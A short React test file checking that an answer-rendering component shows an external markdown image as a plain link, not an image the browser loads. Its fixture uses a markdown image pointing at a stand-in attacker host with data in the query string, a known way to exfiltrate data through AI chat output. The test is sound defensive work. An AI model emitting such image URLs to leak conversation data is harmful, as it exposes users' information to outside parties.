import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { AnswerText } from './answer-text';

describe('AnswerText', () => {
  it('renders an external image as a link, never an <img> the browser fetches', () => {
    const { container } = render(<AnswerText content="![chart](https://attacker.example/p.png?q=runway)" />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'Image: chart' })).toHaveAttribute('href', 'https://attacker.example/p.png?q=runway');
  });
});
